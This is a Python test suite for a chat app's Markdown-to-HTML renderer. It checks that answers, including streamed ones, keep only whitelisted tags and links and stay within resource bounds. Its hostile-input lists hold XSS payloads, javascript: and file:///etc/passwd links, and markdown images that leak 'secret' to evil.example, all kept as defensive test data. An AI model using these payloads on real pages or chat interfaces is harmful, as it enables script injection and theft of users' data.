"""Model answers as HTML: hostile input, what a good answer looks like, and the same while it
streams. What is allowed is written out here again, and checked with a parser of its own."""

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st

from ai_chat.markdown import StreamRenderer, Update, highlight, parser, render, stream

CSS = Path(__file__).parents[2] / "static/ai_chat/highlight.css"

VOID = {"br", "hr"}
ATTRIBUTES = {
    "a": {"href": r"(https?://|mailto:)\S.*", "rel": "noopener noreferrer nofollow"},
    "div": {
        "class": "code|scroll",
        "data-lang": r"[A-Za-z0-9+#._-]{1,30}",
        "tabindex": "0",
        "role": "group",
        "aria-label": "Table",
    },
    "ol": {"start": r"\d{1,9}"},
    "pre": {"tabindex": "0"},
    "span": {"class": "c|k|s|m|nf|nb|na|gd|gi|gh"},
    "td": {"align": "left|center|right"},
    "th": {"align": "left|center|right"},
}
TAGS = (
    VOID
    | set(ATTRIBUTES)
    | {"blockquote", "code", "em", "h3", "h4", "h5", "h6", "li", "p", "s", "strong", "table"}
    | {"tbody", "thead", "tr", "ul"}
)


class Page(HTMLParser):
    """Reads HTML as strictly as the tests need: every tag known, closed, in order."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.links: list[str] = []
        self.tags: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        assert len(dict(attrs)) == len(attrs)
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, {}), f"{name} on {tag}"
            assert re.fullmatch(ATTRIBUTES[tag][name], value or "", re.I | re.S), f"{name}={value}"
        if tag == "a":
            assert dict(attrs)["rel"], "every link tells nothing about where it was found"
            self.links.extend(value or "" for name, value in attrs if name == "href")
        self.tags.append(tag)
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.handle_decl(data)

    def unknown_decl(self, data: str) -> None:
        self.handle_decl(data)


def streamed(text: str, cuts: list[int]) -> Iterator[Update]:
    """The updates of `text` cut at `cuts`, the last one from closing."""
    renderer = StreamRenderer()
    edges = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    for start, end in pairwise(edges):
        yield renderer.feed(text[start:end])
    yield renderer.close()


def tail_of(text: str) -> str:
    """What an open end shows after `text` came in one piece."""
    return StreamRenderer().feed(text).tail


# --- Hostile input ------------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "text <script\n>alert(1)</script\n>",
    "</code></pre></div><script>alert(1)</script>",
    "<img src=//evil.example/?q=secret>",
    "<img src=x onerror=alert(1)>",
    "![secret](https://evil.example/?q=secret)",
    "![secret](//evil.example/?q=secret 'title')",
    "![a][pic]\n\n[pic]: https://evil.example/?q=secret",
    "[![a](https://evil.example/b.png)](https://good.example)",
    "![data](data:image/png;base64,iVBORw0KGgo=)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](<java\tscript:alert(1)>)",
    "[click](\x01javascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox)",
    "[click](file:///etc/passwd)",
    "[click](//evil.example)",
    "[click](/sign-out)",
    "[click](#top)",
    "[click](http:alert)",
    "[click](http://)",
    "[click][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: <data:text/html,x>",
    "<javascript:alert(1)>",
    "<https://good.example/?a=1&b=2>",
    "<someone@good.example>",
    '[a](http://x" onclick=alert(1))',
    '[a](<http://x" onclick="alert(1)>)',
    "[a](http://x 'y\" onclick=alert(1)')",
    "[a](http://x/%22onclick=alert(1)//)",
    "[a](http://x/\u202egnp.exe)",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img&#62; &amp;lt;b&amp;gt; &quot; &#0; &#x110000;",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "<style>@import url(//evil.example)</style><link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<a href=javascript:alert(1) id=x class=btn style=position:fixed>x</a>",
    "<!-- comment --> <?php evil() ?> <!DOCTYPE html> <![CDATA[x]]>",
    '```"><script>alert(1)</script>\ncode\n```',
    "```py\"onclick='x'\ncode\n```",
    "```<img/src=x>\n</code></pre><script>alert(1)</script>\n```",
    "~~~a`b`c\n```\n~~~",
    "```python onclick=alert(1)\nx = '</span><script>'\n```",
    "    <script>alert(1)</script>",
    "| <b>a</b> | b |\n|:-:|-|\n| `<i>` | ![x](http://evil.example) |",
    "# <h1 onclick=x>",
    "1000000000. a\n999999999. b",
    "\x00\x01\x08\x0b\x0c\x1b[31mred\x7f\x85\x9f",
    "\u202eevil\u202c \u2066iso\u2069 zero\u200bwidth \ufeff\u200f \U000e0041",
    "\ud83d lone \udc00 [x](http://\udc00)",
    "'\"><svg/onload=alert(1)>",
    "a" * 70_000,
    "word " * 14_000,
]


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: repr(text[:40]))
def test_hostile_text_becomes_only_what_is_allowed(text: str) -> None:
    Page(render(text))
    for update in streamed(text, list(range(min(len(text), 200)))):
        Page(update.finished)
        Page(update.tail)


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(), max_size=300))
def test_arbitrary_text_becomes_only_what_is_allowed(text: str) -> None:
    Page(render(text))


@st.composite
def mutated(draw: st.DrawFn) -> str:
    """Hostile fragments cut short, joined, and with Markdown's own characters in between."""
    parts = []
    for fragment in draw(st.lists(st.sampled_from(HOSTILE[:-2]), min_size=1, max_size=5)):
        start, end = draw(st.integers(0, 12)), draw(st.integers(0, 90))
        parts.append(fragment[start : start + end])
        parts.append(draw(st.text("[]()<>!`*_~|\\\"'&#;:/ \n\t-=>\x00\u202e", max_size=4)))
    return "".join(parts)


@settings(max_examples=400, deadline=None)
@given(mutated())
def test_mutated_hostile_text_becomes_only_what_is_allowed(text: str) -> None:
    Page(render(text))


@settings(max_examples=100, deadline=None)
@given(mutated(), st.lists(st.integers(0, 300), max_size=6))
def test_no_open_end_shows_more_than_is_allowed(text: str, cuts: list[int]) -> None:
    for update in streamed(text, cuts):
        Page(update.finished)
        Page(update.tail)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see ![the **plan**](https://evil.example/?q=1) here", "see the **plan** here"),
        ("![a &amp; \\*b](x)", "a & *b"),
        ("![](https://evil.example)", "image"),
        ("![data](data:image/png;base64,AAAA)", "data"),
        ("![a][pic]\n\n[pic]: https://evil.example/", "a"),
        ("<img src=//evil.example>", "<img src=//evil.example>"),
    ],
)
def test_a_picture_is_its_alternative_text(text: str, shown: str) -> None:
    assert Page(render(text)).text.strip() == shown


@pytest.mark.parametrize(
    "address",
    ["javascript:alert(1)", "data:text/html,x", "//evil.example", "/sign-out", "#top", "ftp://x.y"],
)
def test_a_link_with_another_scheme_is_only_its_text(address: str) -> None:
    page = Page(render(f"before [click]({address}) after"))
    assert (page.links, page.text.strip()) == ([], "before click after")
    assert page.tags == ["p"]


def test_good_links_survive_with_a_rel_and_a_bad_one_beside_them_does_not() -> None:
    text = (
        "[a](https://x.example/?a=1&b=2) [b](javascript:x) <m@x.example> [c][r] [](http://y.z)\n\n"
    )
    page = Page(render(text + "[r]: HTTP://z.example 'title'"))
    assert page.links == ["https://x.example/?a=1&b=2", "mailto:m@x.example", "HTTP://z.example"]
    assert page.text.split() == ["a", "b", "m@x.example", "c"]


def test_a_linked_picture_keeps_the_link_and_has_a_name() -> None:
    page = Page(render("[![](https://evil.example/b.png)](https://good.example)"))
    assert (page.links, page.text.strip()) == (["https://good.example"], "image")


def test_raw_html_is_shown_as_it_was_written() -> None:
    text = "a <b onclick=x>bold</b> <script>alert(1)</script>"
    assert Page(render(text)).text.strip() == text


def test_control_and_override_characters_go_and_joiners_stay() -> None:
    joined = "\u0645\u06cc\u200c\u062e \U0001f469\u200d\U0001f4bb"
    text = f"a\x00\x1b\x9f\u202eb\u2067c\ufeff {joined}\ud800"
    assert Page(render(text)).text.strip() == f"abc {joined}\ufffd"


# --- What an answer may cost --------------------------------------------------------------------


def bomb(columns: int) -> str:
    """Tables whose empty rows the parser would fill with 250 times as many cells."""
    head = "|" + "a|" * columns + "\n|" + "-|" * columns + "\n"
    return (head + "|\n" * 250 + "\n") * 10


PATHOLOGICAL = {
    "quotes": ">" * 20_000,
    "spaced quotes": "> " * 20_000,
    "brackets": "[" * 20_000,
    "bracket words": "[a" * 19_000,
    "pictures": "![" * 9_999,
    "half links": "[a](" * 16_000,
    "links in links": "[" * 8_000 + "a" + "](b)" * 8_000,
    "stars": "*" * 20_000,
    "star words": "*a " * 19_000,
    "mixed emphasis": "*_" * 9_999,
    "deep emphasis": "*a " * 9_000 + "a* " * 9_000,
    "backticks": "`" * 20_000,
    "backtick runs": " ".join("`" * length for length in range(1, 190)),
    "tildes": "~" * 20_000,
    "entities": "&" * 20_000,
    "wide table": "|" + "a|" * 10_000 + "\n|" + "-|" * 10_000 + "\n|" + "b|" * 10_000,
    "table of empty rows": bomb(250),
    "list in list": "- " * 20_000,
    "quotes and lists": "> - " * 15_000,
    "lazy quote": ">" * 19 + "a\n" + "b\n" * 2_900,
    "lines": "a\n" * 32_000,
    "list items": "- a\n" * 2_999,
    "definitions": "[a]: b\n" * 9_000,
    "open definition": "[a\n" * 2_999,
    "definition used often": f"[a]: http://x.example/{'z' * 9_000}\n\n" + "[a] " * 9_000,
    "fences": "```\n" * 2_999,
    "headings": "# " * 30_000,
    "spaces": "a" + " " * 60_000 + "b",
}


@pytest.mark.parametrize("text", PATHOLOGICAL.values(), ids=PATHOLOGICAL)
def test_pathological_text_stays_in_bounds(text: str) -> None:
    html = render(text)
    Page(html)
    assert len(html) < 1_500_000


@pytest.mark.parametrize(
    "text",
    ["[" * (parser.MAX_MARKERS + 1), "a\n" * (parser.MAX_LINES + 1), "a " * parser.MAX_CHARS],
    ids=["markers", "lines", "characters"],
)
def test_text_beyond_the_bounds_is_plain(text: str) -> None:
    page = Page(render(text))
    assert page.tags == ["div", "pre", "code"]
    assert page.text.strip() == text.strip()


def test_a_table_is_cut_when_the_answer_has_had_its_cells() -> None:
    page = Page(render(bomb(250)))
    assert page.tags.count("td") + page.tags.count("th") <= parser.Allowance().table_cells
    small = Page(render("| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 1_000))
    assert small.tags.count("td") == 2_000


def test_a_long_address_is_not_repeated_for_ever() -> None:
    page = Page(render(PATHOLOGICAL["definition used often"]))
    assert 0 < sum(map(len, page.links)) <= parser.Allowance().href_chars
    assert page.text.split() == ["a"] * 9_000


def test_colours_end_with_the_time_for_them_and_no_code_is_lost(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    ticks = iter(range(1_000_000))
    monkeypatch.setattr(highlight, "thread_time", lambda: next(ticks) / 100)
    code = "x = 1\n" * 500
    page = Page(render(f"```python\n{code}```\n\n```python\n{code}```"))
    assert 0 < page.tags.count("span") < 40
    assert page.text == f"{code}\n{code}\n"


@pytest.mark.parametrize("language", ["matlab", "nonsense", "../etc", ""])
def test_code_in_other_languages_is_plain(language: str) -> None:
    page = Page(render(f"```{language}\nif x: pass\n```"))
    assert page.tags == ["div", "pre", "code"]


def test_a_very_long_block_is_plain() -> None:
    code = "x = 1\n" * (highlight.MAX_CODE_CHARS // 6 - 800)
    assert "<span" in render(f"```python\n{code}```")
    assert "<span" not in render(f"```python\n{'y = 2000000000\n' * 1_500}```")


# --- What a good answer looks like --------------------------------------------------------------


def test_headings_begin_below_the_pages_own() -> None:
    text = (
        "\n\n".join(f"{'#' * level} {level}" for level in range(1, 7)) + "\n\nset\n===\n\ntext\n---"
    )
    assert Page(render(text)).tags == ["h3", "h4", "h5", "h6", "h6", "h6", "h3", "h4"]


def test_lists_emphasis_strikethrough_and_line_breaks() -> None:
    html = render("3. **a** *b*\n4. ~~c~~\n   - d\n\n> e\nf\n\n---")
    assert '<ol start="3">' in html
    for part in (
        "<strong>a</strong> <em>b</em>",
        "<s>c</s>",
        "<li>d</li>",
        "<p>e<br>\nf</p>",
        "<hr>",
    ):
        assert part in html


def test_a_table_scrolls_in_a_box_that_keys_can_reach() -> None:
    html = render("| a | b |\n|---|--:|\n| `x` | 1 |")
    assert html.startswith(
        '<div class="scroll" tabindex="0" role="group" aria-label="Table"><table>'
    )
    assert '<td><code>x</code></td>\n<td align="right">1</td>' in html
    assert html.endswith("</table></div>\n")


def test_code_is_coloured_with_classes_and_names_its_language() -> None:
    assert render("```python\ndef f():\n    return 'x'\n# y\n```") == (
        '<div class="code" data-lang="python"><pre tabindex="0"><code>'
        '<span class="k">def</span> <span class="nf">f</span>():\n'
        '    <span class="k">return</span> <span class="s">\'x\'</span>\n'
        '<span class="c"># y</span>\n'
        "</code></pre></div>\n"
    )


@pytest.mark.parametrize("name", sorted(highlight.LEXERS | set(highlight.ALIASES)))
def test_every_known_language_loses_no_code(name: str) -> None:
    code = "\n\n\tdef x(a): return \"b\" # <c> & 'd'\n// e\n\n"
    page = Page(render(f"```{name}\n{code}```"))
    assert page.text == f"{code}\n"


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(sorted(highlight.LEXERS)), st.text("ab1 \n\t\"'`{}()[]<>/*#$@\\-=.:;,&é漢"))
def test_no_code_is_lost_in_colours(name: str, code: str) -> None:
    coloured = highlight.highlight(code, name, parser.Allowance())
    assert Page(coloured).text == code


def test_the_stylesheet_has_the_classes_that_are_emitted_and_no_others() -> None:
    samples = {
        "python": "@a\nclass B(ValueError):\n    def c(self): return None, 1, 'd', len(x)  # e\n",
        "diff": "diff --git a b\n@@ -1 +1 @@\n-a\n+b\n",
    }
    html = "".join(render(f"```{name}\n{code}```") for name, code in samples.items())
    emitted = set(re.findall(r'<span class="(\w+)">', html))
    css = CSS.read_text()
    assert emitted == set(re.findall(r"\.code \.(\w+)", css)) == set(highlight.CLASSES.values())
    assert "@layer pieces" in css


# --- While it streams ---------------------------------------------------------------------------

PIECES = [
    *["a", "Text ", "b|c", "- ", "* ", "+ ", "1. ", "2) ", "> ", "# ", "## ", "\n", "\n\n", "   "],
    *[
        "    ",
        "\t",
        "```",
        "```py\n",
        "~~~",
        "`",
        "``",
        "**",
        "*",
        "_",
        "~~",
        "---",
        "===",
        "-",
        "=",
    ],
    *[
        "|",
        "|-|-|\n",
        "a | b\n--|--\n",
        "[x](http://y.z)",
        "[x]",
        "![",
        "](",
        ")",
        "\\",
        "<b>",
        "&amp;",
    ],
    *[
        "\r",
        "\r\n",
        "x = 1\n",
        "é",
        "\x00",
        "- a\n\n  b\n",
        "1. a\n   ```\n   c\n   ```\n",
        "> a\nb\n",
    ],
]


@st.composite
def structured(draw: st.DrawFn) -> str:
    """Text with many beginnings and ends of blocks, and without link definitions."""
    return "".join(draw(st.lists(st.sampled_from(PIECES), max_size=40)))


@settings(max_examples=1_000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(structured() | mutated() | st.text(max_size=80), st.lists(st.integers(0, 150), max_size=12))
@example("foo\n#bar\n", [5])
@example("foo\na|b\n-|-x\n", [11])
@example("foo\n```x`\n", [8])
@example("foo\n\nbar\n```x`\n", [13])
@example("- a\n\n- b\n\ntext", [5, 6])
@example("- a\n\n-b", [6])
@example("- a\n\n  b", [7])
@example("1. a\n\n12. b", [7, 8])
@example("- ```\n\na", [8])
@example("a\r\n\r\nb\r\rc", [2, 4, 8])
@example("```\na\n\n```x\n\nb", [10])
@example("a\n\n    b\n\n    c\n\nd", [10, 16])
def test_a_stream_ends_as_the_whole_answer_would(text: str, cuts: list[int]) -> None:
    assume("]:" not in text)
    assert "".join(update.finished for update in streamed(text, cuts)) == render(text)


@settings(max_examples=100, deadline=None)
@given(structured())
def test_a_stream_of_single_characters_ends_as_the_whole_answer_would(text: str) -> None:
    every = list(range(len(text)))
    assert "".join(update.finished for update in streamed(text, every)) == render(text)


def test_a_definition_serves_the_blocks_after_it() -> None:
    text = "[r]: http://x.example\n\nFirst [r].\n\nSecond [r].\n\nThird [s].\n\nEnd.\n\n[s]: http://y.example/abc"
    updates = list(streamed(text, list(range(len(text)))))
    assert Page("".join(update.finished for update in updates)).links == ["http://x.example"] * 2
    assert not any("y.example" in update.finished for update in updates), "half an address may stay"


def test_a_definition_whose_title_is_still_coming_is_not_cut_in_two() -> None:
    text = 'Text.\n\n[r]: http://x.example\n"a\ntitle"\n\n[r]'
    for cut in range(len(text)):
        finished = "".join(update.finished for update in streamed(text, [cut]))
        assert finished == render(text)


def test_finished_blocks_leave_the_tail() -> None:
    renderer = StreamRenderer()
    answer = "".join(f"Block {number}.\n\n- x\n- y\n\n" for number in range(30))
    for character in answer + "The end":
        update = renderer.feed(character)
        assert len(update.tail) < 100
    assert update.tail == "<p>The end</p>\n"


def test_code_is_coloured_once_when_it_is_finished(monkeypatch: pytest.MonkeyPatch) -> None:
    coloured: list[str] = []

    def note(code: str, *_: object) -> str:
        coloured.append(code)
        return code

    monkeypatch.setattr("ai_chat.markdown.html.highlight", note)
    text = "Look:\n\n```python\nx = 1\n```\n\nAnd then.\n\n```python\ny = 2\n```"
    list(streamed(text, list(range(len(text)))))
    assert coloured == ["x = 1\n", "y = 2\n"]


def test_a_costly_tail_is_drawn_at_longer_steps(monkeypatch: pytest.MonkeyPatch) -> None:
    clock = iter(range(1_000_000))
    cost = stream.FLUSH_SECONDS * 9.5
    monkeypatch.setattr(stream, "thread_time", lambda: next(clock) * cost)
    renderer = StreamRenderer()
    tails = [renderer.feed("- item\n").tail for _ in range(101)]
    assert len({id(tail) for tail in tails}) == 11
    assert renderer.close().finished == render("- item\n" * 101)


@pytest.mark.parametrize(
    ("text", "tail"),
    [
        ("an **open", "<p>an <strong>open</strong></p>\n"),
        ("an **open*", "<p>an <strong>open</strong></p>\n"),
        ("an **", "<p>an</p>\n"),
        ("some `co", "<p>some <code>co</code></p>\n"),
        ("no ~~lon", "<p>no <s>lon</s></p>\n"),
        ("so 2 ** 3", "<p>so 2 ** 3</p>\n"),
        ("see [the docs](https://exam", "<p>see the docs</p>\n"),
        ("see ![a picture](https://evil", "<p>see a picture</p>\n"),
        ("Here:\n-", "<p>Here:</p>\n"),
        ("Here:\n- **a", "<p>Here:</p>\n<ul>\n<li><strong>a</strong></li>\n</ul>\n"),
        (
            "```\nif **x `y\n``",
            '<div class="code"><pre tabindex="0"><code>if **x `y\n</code></pre></div>\n',
        ),
    ],
)
def test_an_open_end_looks_as_it_will_when_closed(text: str, tail: str) -> None:
    assert tail_of(text) == tail


def test_an_open_end_that_did_not_change_is_the_same_object() -> None:
    renderer = StreamRenderer()
    renderer.feed("- item\n" * 2_000)
    assert renderer.feed("- item\n").tail is renderer.feed("").tail
